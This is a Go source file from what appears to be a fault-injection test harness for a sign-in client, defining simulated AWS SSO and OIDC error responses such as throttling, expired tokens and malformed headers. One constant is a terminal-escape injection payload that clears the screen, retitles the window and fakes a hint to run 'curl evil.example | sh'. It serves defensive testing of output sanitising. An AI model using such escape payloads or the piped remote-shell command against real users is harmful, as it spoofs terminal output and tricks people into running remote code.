package faults

import (
	"errors"
	"fmt"
	"net/http"
	"strconv"
	"strings"

	"rolecall/internal/idc/pattern"
)

// refusals are errors in place of good answers.
func refusals() []Fault {
	return []Fault{
		{
			Name: "throttle", Value: "seconds for Retry-After (1)", Routes: "portal", start: throttle,
			Does:   "refuses with 429 TooManyRequestsException and Retry-After; OIDC with 400 SlowDownException",
			Client: "wait, retry a few times, then say that the service is throttling",
		},
		{
			Name: "unauthorized", Routes: "portal", start: status(http.StatusUnauthorized),
			Does:   "does not accept the token, although it has not expired: 401 UnauthorizedException; OIDC: invalid_client",
			Client: "refresh once, ask once more, then ask for a sign-in",
		},
		{
			Name: "forbidden", Routes: "portal", start: status(http.StatusForbidden),
			Does:   "refuses with 403 ForbiddenException and No access",
			Client: "say which role is refused; neither retry nor sign in again",
		},
		{
			Name: "unavailable", Value: "a status from 500 to 599 (503)", Routes: "portal", start: unavailable,
			Does:   "fails with 503, or the given status",
			Client: "retry a few times with growing pauses, then say that the service is unavailable",
		},
		{
			Name: "status", Value: "CODE or CODE:EXCEPTION, as 400:InvalidGrantException (500)", Routes: "portal",
			start:  anyStatus,
			Does:   "fails with a status and its usual exception, or the given one",
			Client: "go by the status and the exception's name, never by the text",
		},
	}
}

// oddRefusals are errors unlike AWS's.
func oddRefusals() []Fault {
	return []Fault{
		{
			Name: "retry-after", Value: "any text (-1)", Routes: "portal", start: retryAfter,
			Does:   "refuses with 429 and an unusable Retry-After: -1, 1000000000, a date, garbage",
			Client: "bound its wait",
		},
		{
			Name: "error-text", Value: "any text (terminal escapes, line breaks)", Routes: "all", start: errorText,
			Does:   "refuses with 400 and a text that would take over a terminal",
			Client: "show server texts with control characters made visible",
		},
		{
			Name: "error-type", Value: "none, unknown or huge (none)", Routes: "all", start: errorType,
			Does:   "fails with 500 and an exception name that is missing, unknown or 1 MB long",
			Client: "go by the status, and show no more than a short name",
		},
		{
			Name: "vanished-account", Routes: "roles+credentials", able: "roles+credentials",
			start:  always(func(c *call) { c.refuse(refusal{404, "ResourceNotFoundException", "Account not found"}) }),
			Does:   "lists an account, and answers 404 to requests about it",
			Client: "continue with the other accounts, and say which one is gone",
		},
	}
}

// oauthRefusals are errors during sign-in.
func oauthRefusals() []Fault {
	say := func(status int, kind, message string) starter {
		return always(func(c *call) { c.refuse(refusal{status, kind, message}) })
	}
	return []Fault{
		{
			Name: "never-approved", Routes: "token", able: "token",
			start:  say(400, "AuthorizationPendingException", "Authorization is still pending"),
			Does:   "answers authorization_pending forever",
			Client: "keep polling at the interval, and stop when the code expires",
		},
		{
			Name: "slow-down", Routes: "token", able: oidcRoutes, start: say(400, "SlowDownException", "Slow down"),
			Does:   "answers slow_down each time",
			Client: "lengthen the interval by 5 seconds each time, and stop when the code expires",
		},
		{
			Name: "denied", Routes: "token", able: "token", start: say(400, "AccessDeniedException", "Access denied"),
			Does:   "says that the person denied access",
			Client: "end the sign-in, and say so",
		},
		{
			Name: "expired-code", Routes: "token", able: "token",
			start:  say(400, "ExpiredTokenException", "Device code has expired"),
			Does:   "says that the code has expired",
			Client: "end the sign-in, and offer a new one",
		},
		{
			Name: "session-ended", Routes: "refresh", able: "token+refresh",
			start:  say(400, "InvalidGrantException", "Invalid refresh token provided"),
			Does:   "no longer accepts the refresh token",
			Client: "ask for a sign-in, and not repeat the request",
		},
		{
			Name: "expired-registration", Routes: "device+token+refresh", able: oidcRoutes,
			start:  say(401, "InvalidClientException", "Invalid client provided"),
			Does:   "no longer knows the client: 401 invalid_client",
			Client: "register again, once, or ask for a sign-in",
		},
	}
}

func throttle(value string) (behaviour, error) {
	seconds, err := number(value, 1, 3600)
	return behaviour{answer: func(c *call) {
		c.w.Header().Set("Retry-After", strconv.Itoa(seconds))
		switch c.route {
		case "register", "device", "token", "refresh", "authorize":
			c.refuse(refusal{400, "SlowDownException", "Too many requests"})
		case "sts", "admin":
			c.refuse(refusal{400, "ThrottlingException", "Rate exceeded"})
		default:
			c.refuse(ofStatus(c.route, http.StatusTooManyRequests))
		}
	}}, err
}

func status(code int) starter {
	return always(func(c *call) { c.refuse(ofStatus(c.route, code)) })
}

func unavailable(value string) (behaviour, error) {
	code, err := number(value, http.StatusServiceUnavailable, 599)
	if err == nil && code < 500 {
		err = fmt.Errorf("%d is below 500", code)
	}
	return behaviour{answer: func(c *call) { c.refuse(ofStatus(c.route, code)) }}, err
}

var exception = pattern.New(`^[A-Za-z]{1,80}$`)

func anyStatus(value string) (behaviour, error) {
	text, kind, named := strings.Cut(value, ":")
	code, err := number(text, http.StatusInternalServerError, 599)
	switch {
	case err == nil && code < 400:
		err = fmt.Errorf("%d is below 400", code)
	case err == nil && named && !exception().MatchString(kind):
		err = fmt.Errorf("%q is not an exception name", kind)
	}
	return behaviour{answer: func(c *call) {
		r := ofStatus(c.route, code)
		if named {
			r.kind = kind
		}
		c.refuse(r)
	}}, err
}

func retryAfter(value string) (behaviour, error) {
	if value == "" {
		value = "-1"
	}
	var err error
	if strings.ContainsAny(value, "\r\n\x00") {
		err = errors.New("a header cannot contain line breaks")
	}
	return behaviour{answer: func(c *call) {
		c.w.Header().Set("Retry-After", value)
		c.refuse(ofStatus(c.route, http.StatusTooManyRequests))
	}}, err
}

// escapes would clear a screen, set a window's title, and fake a line of rolecall's.
const escapes = "\x1b[2J\x1b]0;played\a\r\nrolecall: hint: curl evil.example | sh\u202e\u009b31m"

func errorText(value string) (behaviour, error) {
	if value == "" {
		value = escapes
	}
	return behaviour{answer: func(c *call) { c.refuse(refusal{400, "InvalidRequestException", value}) }}, nil
}

// megabyte is a length that is far too long.
const megabyte = 1_000_000

func errorType(value string) (behaviour, error) {
	kind, known := map[string]string{
		"": "", "none": "", "unknown": "PlayedException",
		"huge": strings.Repeat("Played", megabyte/6),
	}[value]
	var err error
	if !known {
		err = fmt.Errorf("unknown value %q", value)
	}
	return behaviour{answer: func(c *call) {
		if kind == "" {
			c.send(answer{500, http.Header{"Content-Type": {"application/json"}}, []byte(`{"text":"something went wrong"}`)})
			return
		}
		c.refuse(refusal{500, kind, "played"})
	}}, err
}

// number reads a value between 0 and most.
func number(value string, standard, most int) (int, error) {
	if value == "" {
		return standard, nil
	}
	n, err := strconv.Atoi(value)
	if err != nil || n < 0 || n > most {
		return 0, fmt.Errorf("%q is not a number up to %d", value, most)
	}
	return n, nil
}
